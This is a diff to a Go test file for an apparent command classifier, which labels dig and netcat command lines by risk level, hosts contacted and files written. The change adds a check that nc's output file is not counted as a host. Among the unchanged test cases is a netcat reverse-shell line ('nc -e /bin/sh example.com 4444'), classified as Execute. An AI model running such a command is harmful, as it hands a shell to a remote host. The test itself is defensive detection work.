@@ -21,13 +21,14 @@ func TestNetToolSpecs(t *testing.T) {
 		reads   []string // among the reads
 		writes  []string // among the writes
 		hosts   []string // among the hosts
+		nohost  string   // not among the hosts
 		secret  bool     // exposes credentials
 		destroy bool     // cannot be undone
 	}{
 		// name lookups
 		{line: "dig example.com", level: Network, known: true},
 		{line: "dig +short A example.com", level: Network, known: true},
-		{line: "dig @8.8.8.8 +noall +answer -t MX example.com", level: Network, known: true},
+		{line: "dig @8.8.8.8 +noall +answer -t MX example.com", level: Network, known: true, hosts: []string{"8.8.8.8"}},
 		{line: "dig -x 1.2.3.4 +trace", level: Network, known: true},
 		{line: "dig -k keys/tsig.key example.com", level: Network, known: true, reads: []string{"keys/tsig.key"}},
 		{line: "dig +tls-ca=ca.pem +https example.com", level: Network, known: true, reads: []string{"ca.pem"}},
@@ -50,6 +51,7 @@ func TestNetToolSpecs(t *testing.T) {
 		// the netcat family
 		{line: "nc -zv example.com 443", level: Network, known: true, hosts: []string{"example.com"}},
 		{line: "nc -w 3 example.com 80", level: Network, known: true, hosts: []string{"example.com"}},
+		{line: "nc -q 1 -o dump example.com 80", level: Network, known: true, hosts: []string{"example.com"}, nohost: "dump"},
 		{line: "nc -o dump 127.0.0.1 6379", level: Network, known: true, writes: []string{"dump"}, hosts: []string{"127.0.0.1"}},
 		{line: "nc -x 10.0.0.1:1080 example.com 80", level: Network, known: true, hosts: []string{"10.0.0.1", "example.com"}},
 		{line: "nc -e /bin/sh example.com 4444", level: Execute, runs: true},
@@ -194,6 +196,9 @@ func TestNetToolSpecs(t *testing.T) {
 			if !slices.Contains(e.Writes, wr) {
 				t.Errorf("%s: writes %q, want %q among them", tc.line, e.Writes, wr)
 			}
+		}
+		if tc.nohost != "" && slices.Contains(e.Hosts, tc.nohost) {
+			t.Errorf("%s: hosts %q, want no %q", tc.line, e.Hosts, tc.nohost)
 		}
 		for _, h := range tc.hosts {
 			if !slices.Contains(e.Hosts, h) {
